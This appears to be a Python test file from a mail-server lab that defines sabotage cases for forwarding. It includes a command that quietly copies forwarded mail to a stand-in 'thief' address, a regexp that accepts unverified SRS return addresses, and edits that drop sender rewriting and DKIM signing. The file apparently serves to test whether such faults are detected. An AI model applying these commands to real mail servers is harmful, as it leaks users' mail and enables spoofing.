"""What goes on to elsewhere: to others, in the wrong name, back to anybody, without a seal."""

from __future__ import annotations

from tests.lab.sabotage import BOTH, Sabotage, postfix
from tests.lab.sabotage.signing import FILTER_AGAIN, RSPAMD

INSIDE = ("inside",)
# Takes any return address for one of this host's own.
READ_WITHOUT_PROOF = r"/^SRS0=[^=]*=[^=]*=([^=]*)=(.*)@NAME$/ ${2}@${1}"

FORWARDING = (
    Sabotage(
        "FWD-01",
        "somebody gets a copy whom nobody named",
        'sed -i \'s/^  redirect.*/&\\n  redirect :copy "thief@example.net";/; s/^if /require ["copy"];\\n&/\''
        " /etc/dovecot/sieve/forward/*@DOMAIN.sieve && echo 'thief@example.net OK' >>/etc/postfix/forward_destinations",
        INSIDE,
    ),
    Sabotage(
        "FWD-02",
        "strangers stay the senders of what we send on",
        postfix("forward-cleanup/unix/sender_canonical_maps="),
        INSIDE,
    ),
    Sabotage(
        "FWD-03",
        "every return address is believed",
        f"printf '%s\\n' '{READ_WITHOUT_PROOF}' >/etc/postfix/srs_addresses && "
        + postfix("recipient_canonical_maps=regexp:/etc/postfix/srs_addresses"),
        BOTH,
    ),
    Sabotage(
        "FWD-04",
        "nothing is sealed",
        f"sed -i 's/sign_condition = .*/enabled = false;/' {RSPAMD} && {FILTER_AGAIN}",
        INSIDE,
    ),
)
